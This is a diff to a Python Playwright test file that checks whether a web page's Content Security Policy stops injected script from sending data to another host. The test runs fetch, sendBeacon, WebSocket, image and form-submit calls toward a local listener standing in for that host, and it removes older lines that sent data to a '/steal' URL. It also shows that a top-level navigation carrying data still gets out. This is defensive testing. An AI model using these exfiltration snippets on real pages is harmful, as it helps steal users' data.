@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import json
 import re
+import socket
+import threading
 
 import pytest
 from playwright.sync_api import expect
@@ -43,24 +45,54 @@ def test_map_filters_export_and_card_work_under_the_policy(guarded, browser):
         expect(page.locator(".kit, [data-testid=stBidiComponentIsolated]").first).to_be_attached()
 
 
-def test_the_policy_lets_nothing_out(guarded, browser):
-    """A script that got in could read the page, but send nothing to another host."""
+@pytest.fixture
+def elsewhere():
+    """Stands for another host; gives its address and the requests that reached it."""
+    reached = []
+    with socket.create_server(("127.0.0.1", 0)) as door:
+
+        def answer():
+            while True:
+                try:
+                    caller, _ = door.accept()
+                except OSError:
+                    return
+                with caller:
+                    words = caller.recv(2000).split(b" ")
+                    reached.extend(words[1:2])  # nothing where Chromium only opens a line ahead
+                    caller.sendall(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
+
+        threading.Thread(target=answer, daemon=True).start()
+        yield f"http://127.0.0.1:{door.getsockname()[1]}", reached
+
+
+def test_the_policy_stops_what_sends_in_silence_but_no_going_away(guarded, browser, elsewhere):
+    """A script that got in cannot fetch, load or post elsewhere; leave with what it read it can."""
+    address, reached = elsewhere
     context = browser.new_context()  # no watched one: what is blocked here is said in its console
     page = context.new_page()
     page.goto(guarded)
     blocked = page.evaluate(
-        """async () => {
+        """async address => {
           const seen = [];
           addEventListener("securitypolicyviolation", e => seen.push(e.effectiveDirective));
-          await fetch("http://127.0.0.1:9/steal").catch(() => {});
+          await fetch(address + "/fetched").catch(() => {});
+          navigator.sendBeacon(address + "/beacon", "words");
+          try { new WebSocket(address.replace("http", "ws") + "/socket"); } catch { }
           const picture = new Image();
-          picture.src = "http://127.0.0.1:9/steal.png";
-          const form = Object.assign(document.createElement("form"), {action: "http://127.0.0.1:9/"});
+          picture.src = address + "/picture";
+          const form = document.createElement("form");
+          form.action = address + "/form";
           document.body.append(picture, form);
           form.submit();
           await new Promise(done => setTimeout(done, 300));
           return seen;
-        }"""
+        }""",
+        address,
     )
-    context.close()
     assert {"connect-src", "img-src", "form-action"} <= set(blocked)
+    assert reached == []
+    page.evaluate("address => { location.href = address + '/gone?words'; }", address)
+    page.wait_for_timeout(300)  # an answer without content leaves the page where it was
+    context.close()
+    assert b"/gone?words" in reached  # docs/security.md says so; no policy of a page can stop it
